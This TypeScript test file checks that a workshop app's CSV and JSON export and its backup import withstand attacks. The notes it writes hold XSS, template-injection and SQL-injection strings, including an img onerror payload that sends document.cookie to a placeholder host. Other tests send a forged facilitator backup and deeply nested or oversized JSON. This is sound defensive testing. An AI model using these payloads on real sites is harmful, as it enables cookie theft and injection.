import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { boardMaps, CLOSE_CODES, createNote, type CreateWorkshopResponse, type WorkshopBackup, type WorkshopResponse } from '@essaim/shared';
import { waitFor, whenSynced } from './providers.js';
import { expectRefused, openRawSocket } from './rawSocket.js';
import {
  bigBoard,
  download,
  expectDownloadError,
  exportBackup,
  exportServer,
  healthWhile,
  importBackup,
  percentile,
  sceneOf,
  tableCounts,
  type Download,
  type ExportKind,
} from './exportScene.js';
import { request } from './request.js';
import { writeNotes } from './voteScene.js';
import { openWorkshop } from './workshopScene.js';

/** Someone with a facilitator's or a participant's token and a client of their own making. */

const withoutDate = ({ exportedAt: _at, ...rest }: WorkshopBackup): Omit<WorkshopBackup, 'exportedAt'> => rest;

describe('export and import attacks', () => {
  it('keeps markup and script in notes as the data they are, in the CSV, the backup and its import', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await exportServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    const lina = await scene.join('Lina', roomId);
    const texts = [
      '<script>alert("essaim")</script>',
      '<img src=x onerror="fetch(\'//exemple.invalid/\'+document.cookie)">',
      '</textarea><b>gras</b> &amp; &lt;échappé&gt;',
      '{{constructor.constructor("return process")()}} ${process.exit()}',
      '"; DROP TABLE workshops; --',
    ];
    await writeNotes(scene, lina, roomId, texts.map((text, i) => ({ id: `balise-${i}`, x: i * 200, y: 0, text })));

    const csv = await download(server, workshop, 'csv', workshop.facilitatorToken);
    const cells = (parse(csv.bytes, { bom: true, delimiter: ';' }) as string[][]).slice(1).map((r) => r[4]);
    expect(cells.sort()).toEqual([...texts].sort());
    const json = await download(server, workshop, 'json', workshop.facilitatorToken);
    // a download a browser never renders: a JSON type, no sniffing, an attachment
    for (const file of [csv, json]) {
      expect(file.headers.get('x-content-type-options')).toBe('nosniff');
      expect(file.headers.get('content-disposition')).toMatch(/^attachment;/);
    }
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    const backup = json.json as WorkshopBackup;
    expect(backup.rooms[1]!.board.notes.map((n) => n.text).sort()).toEqual([...texts].sort());

    const imported = (await importBackup(server, json.text)).json as CreateWorkshopResponse;
    const again = await exportBackup(server, imported);
    expect(again.backup.rooms[1]!.board.notes.map((n) => n.text).sort()).toEqual([...texts].sort());
  });

  it('never lets a participant import into an existing workshop, nor gain a facilitator’s token for it', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await exportServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    const lina = await scene.join('Lina', roomId);
    await writeNotes(scene, lina, roomId, [{ id: 'note-lina', x: 0, y: 0, text: 'Ma note' }]);
    const before = await exportBackup(server, workshop);
    const settings = (await scene.admin<WorkshopResponse>('GET', '')).body;

    // her own file: the workshop's room ids, herself as its facilitator
    const forged: WorkshopBackup = {
      ...before.backup,
      workshop: { ...before.backup.workshop, title: 'Prise de contrôle', observersExport: true },
      people: [{ id: lina.participantId, name: 'Lina', role: 'facilitator' }],
      votes: [],
    };
    const body = JSON.stringify(forged);
    expect((await importBackup(server, body, { token: lina.token, path: `/api/workshops/${workshop.workshopId}/import` })).status).toBe(404);
    const got = await importBackup(server, body, { token: lina.token, path: `/api/workshops/import?workshopId=${workshop.workshopId}&name=Lina` });
    expect(got.status, got.text.slice(0, 200)).toBe(201);
    const made = got.json as CreateWorkshopResponse;
    expect(made.workshopId).not.toBe(workshop.workshopId);

    // the token she got is the new workshop's only
    expect((await scene.admin('GET', '', undefined, made.facilitatorToken)).status).toBe(403);
    expect((await scene.admin('PATCH', '', { observersExport: true }, made.facilitatorToken)).status).toBe(403);
    expectDownloadError(await download(server, workshop, 'json', made.facilitatorToken), 403, 'forbidden');
    await expectRefused(openRawSocket(server.wsUrl, scene.board(roomId), made.facilitatorToken), CLOSE_CODES.Forbidden);
    await expectRefused(openRawSocket(server.wsUrl, scene.docName, made.facilitatorToken), CLOSE_CODES.Forbidden);
    // the « facilitator » Lina of her file is nobody: her participant token gets nothing there
    expect((await sceneOf(server, made).admin('GET', '', undefined, lina.token)).status).toBe(403);
    expectDownloadError(await download(server, made, 'json', lina.token), 403, 'forbidden');
    await expectRefused(openRawSocket(server.wsUrl, sceneOf(server, made).board(roomId), lina.token), CLOSE_CODES.Forbidden);

    // the existing workshop is as it was, and Lina is still a participant there
    expect(withoutDate((await exportBackup(server, workshop)).backup)).toEqual(withoutDate(before.backup));
    expect((await scene.admin<WorkshopResponse>('GET', '')).body).toEqual(settings);
    expectDownloadError(await download(server, workshop, 'csv', lina.token), 403, 'forbidden');
  });

  it('answers deeply nested and huge JSON with a 400, and keeps answering /healthz', async () => {
    const scene = await openWorkshop({ rooms: 1 }, await exportServer());
    const { server } = scene;
    await writeNotes(scene, await scene.join('Lina'), scene.breakouts[0]!.id, [{ id: 'note-a', x: 0, y: 0 }]);
    const { text } = await exportBackup(server, scene.workshop);
    const deep = (n: number): string => '['.repeat(n) + ']'.repeat(n);
    /** the backup with `raw` JSON put in place of the value at `path` */
    const inject = (path: (string | number)[], raw: string): string => {
      const marker = '"__ICI__"';
      const b = JSON.parse(text) as Record<string, unknown>;
      let at: Record<string | number, unknown> = b;
      for (const key of path.slice(0, -1)) at = at[key] as Record<string | number, unknown>;
      at[path.at(-1)!] = '__ICI__';
      return JSON.stringify(b).replace(marker, raw);
    };
    const note = ['rooms', 1, 'board', 'notes', 0];
    const cases: [string, string][] = [
      ['200,000 nested arrays', deep(200_000)],
      ['nested 200,000 deep in a note', inject([...note, 'extra'], deep(200_000))],
      ['nested 200,000 deep in a note’s room tag', inject([...note, 'room'], `{"id":"a","name":"b","color":"#000000","x":${deep(200_000)}}`)],
      ['nested 200,000 deep as the categories', inject(['rooms', 1, 'board', 'meta', 'categories'], deep(200_000))],
      ['nested objects 100,000 deep as the workshop', inject(['workshop'], '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000))],
      ['a million notes', inject(['rooms', 1, 'board', 'notes'], `[${Array(1_000_000).fill('0').join(',')}]`)],
      ['a million people', inject(['people'], `[${Array(1_000_000).fill('{}').join(',')}]`)],
      ['a round with 300,000 dots', inject(['votes'], `[{"dots":[${Array(300_000).fill('{"participantId":"p","noteId":"n","roomId":"r","count":1}').join(',')}]}]`)],
      ['a meta of 500,000 keys', inject(['rooms', 1, 'board', 'meta'], `{${Array.from({ length: 500_000 }, (_, i) => `"k${i}":0`).join(',')}}`)],
      ['a 10 MB title', inject(['workshop', 'title'], JSON.stringify('é'.repeat(5_000_000)))],
    ];
    const wrong: string[] = [];
    for (const [what, body] of cases) {
      const start = performance.now();
      const answering = importBackup(server, body);
      const health = await healthWhile(server, answering);
      const got = await answering;
      console.log(`import of ${what} (${(body.length / 1e6).toFixed(1)} MB): ${got.status} in ${Math.round(performance.now() - start)} ms; /healthz meanwhile: ${health.length} answers, slowest ${percentile(health, 100)} ms`);
      const code = (got.json as { error?: { code: string } } | undefined)?.error?.code;
      if (got.status !== 400 || code !== 'invalid_backup') wrong.push(`${what} → ${got.status} ${got.text.slice(0, 200)}`);
    }
    expect(wrong).toEqual([]);
    expect((await importBackup(server, text)).status).toBe(201);
  });

  it('keeps answering /healthz while a 30 MB junk file is read', async () => {
    const server = await exportServer();
    const item = '{"a":[1,2,3],"b":"du texte pour rien","c":{"d":null}},';
    const junk = `{"format":"essaim-workshop-backup","version":1,"junk":[${item.repeat(Math.floor(30e6 / item.length))}{}]}`;
    const start = performance.now();
    const answering = importBackup(server, junk);
    const health = await healthWhile(server, answering);
    const got = await answering;
    console.log(
      `30 MB junk import: ${got.status} after ${Math.round(performance.now() - start)} ms; /healthz meanwhile: ${health.length} answers, p50 ${percentile(health, 50)} ms, p99 ${percentile(health, 99)} ms, slowest ${percentile(health, 100)} ms`,
    );
    expectDownloadError(got, 400, 'invalid_backup');
    // the file is parsed in a worker thread: /healthz is answered again and again before the import is (one answer would be a loop blocked throughout)
    expect(health.length).toBeGreaterThan(1);
  });

  it('counts imports from one address, good files or bad, against a budget of their own', async () => {
    const source = await exportServer();
    const { text } = await exportBackup(source, (await openWorkshop({}, source)).workshop);
    const server = await exportServer({ importRateLimit: 3 });
    expect((await importBackup(server, text)).status).toBe(201);
    expect((await importBackup(server, '{"hello":1}')).status).toBe(400);
    expect((await importBackup(server, text)).status).toBe(201);
    const before = tableCounts(server);
    const refused = await importBackup(server, text);
    expectDownloadError(refused, 429, 'too_many_requests');
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    expect(tableCounts(server)).toEqual(before);
    // creating a workshop is counted apart
    expect((await request(server.url, '/api/workshops', { json: { title: 'Atelier créé après les imports' } })).status).toBe(201);
  });

  it('answers 429 with Retry-After to the 21st export of a minute, per person', async () => {
    const scene = await openWorkshop({}, await exportServer());
    const { server, workshop } = scene;
    const co = await scene.invite('facilitator', 'Co-animation');
    for (let i = 0; i < 20; i++) expect((await download(server, workshop, i % 2 ? 'csv' : 'json', workshop.facilitatorToken)).status).toBe(200);
    for (const kind of ['csv', 'json', 'pdf', 'png'] as ExportKind[]) {
      const got = await download(server, workshop, kind, workshop.facilitatorToken);
      expectDownloadError(got, 429, 'too_many_requests');
      expect(Number(got.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect(Number(got.headers.get('retry-after'))).toBeLessThanOrEqual(60);
    }
    // the co-facilitator has a budget of their own
    expect((await download(server, workshop, 'csv', co.token)).status).toBe(200);
  });

  it('answers every one of many parallel exports by several facilitators: the file, or 503 export_busy with Retry-After', async () => {
    const scene = await openWorkshop({}, await exportServer());
    const { server, workshop } = scene;
    await bigBoard(scene, scene.plenary.id, 1500);
    const tokens = [workshop.facilitatorToken];
    for (let i = 1; i < 5; i++) tokens.push((await scene.invite('facilitator', `Co-animation ${i}`)).token);
    const requests: Promise<Download>[] = [];
    for (const token of tokens) for (let i = 0; i < 8; i++) requests.push(download(server, workshop, i % 2 ? 'csv' : 'json', token));
    const start = performance.now();
    const answers = await Promise.all(requests);
    const elapsed = Math.round(performance.now() - start);
    const made = answers.filter((a) => a.status === 200);
    const busy = answers.filter((a) => a.status === 503);
    console.log(`${answers.length} parallel exports: ${made.length} made, ${busy.length} export_busy, all answered in ${elapsed} ms`);
    expect(answers.filter((a) => a.status !== 200 && a.status !== 503).map((a) => `${a.status} ${a.text.slice(0, 160)}`)).toEqual([]);
    expect(made.length).toBeGreaterThan(0);
    for (const a of busy) {
      expectDownloadError(a, 503, 'export_busy');
      expect(Number(a.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    }
    for (const a of made) {
      if (a.headers.get('content-type')?.startsWith('application/json')) expect((a.json as WorkshopBackup).rooms[0]!.board.notes).toHaveLength(1500);
      else expect(a.text.split('\r\n')).toHaveLength(1502);
    }
    // and the server is as it was
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
    expect((await download(server, workshop, 'json', tokens[0]!)).status).toBe(200);
  });

  it('keeps relaying a room’s live edits while a big PDF and backup are made', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await exportServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    await bigBoard(scene, scene.plenary.id, 2000);
    // the worker thread started, so its start-up is not what is measured
    expect((await download(server, workshop, 'csv', workshop.facilitatorToken)).status).toBe(200);
    const [lina, marc] = [await scene.join('Lina', roomId), await scene.join('Marc', roomId)];
    const writer = scene.connect(scene.board(roomId), lina.token);
    const reader = scene.connect(scene.board(roomId), marc.token);
    await Promise.all([whenSynced(writer), whenSynced(reader)]);

    let exporting = true;
    const exports = Promise.all([
      download(server, workshop, 'pdf', workshop.facilitatorToken, `rooms=${scene.plenary.id}`),
      download(server, workshop, 'json', workshop.facilitatorToken),
    ]).finally(() => (exporting = false));
    const latencies: number[] = [];
    let duringExport = 0;
    for (let i = 0; exporting || i < 5; i++) {
      const start = performance.now();
      createNote(writer.doc, { id: `live-${i}`, x: i * 10, y: 0, text: `En direct ${i}` }, { authorId: lina.participantId, now: Date.now() });
      await waitFor(() => boardMaps(reader.doc).notes.has(`live-${i}`), 10_000, `live note ${i} to reach Marc`);
      latencies.push(performance.now() - start);
      if (exporting) duringExport++;
    }
    const [pdf, json] = await exports;
    console.log(`live edits relayed during the exports: ${duringExport}; relay p50 ${percentile(latencies, 50)} ms, p99 ${percentile(latencies, 99)} ms, slowest ${percentile(latencies, 100)} ms`);
    expect(pdf.status, pdf.text.slice(0, 200)).toBe(200);
    expect(json.status).toBe(200);
    expect(duringExport).toBeGreaterThan(0);
  });
});
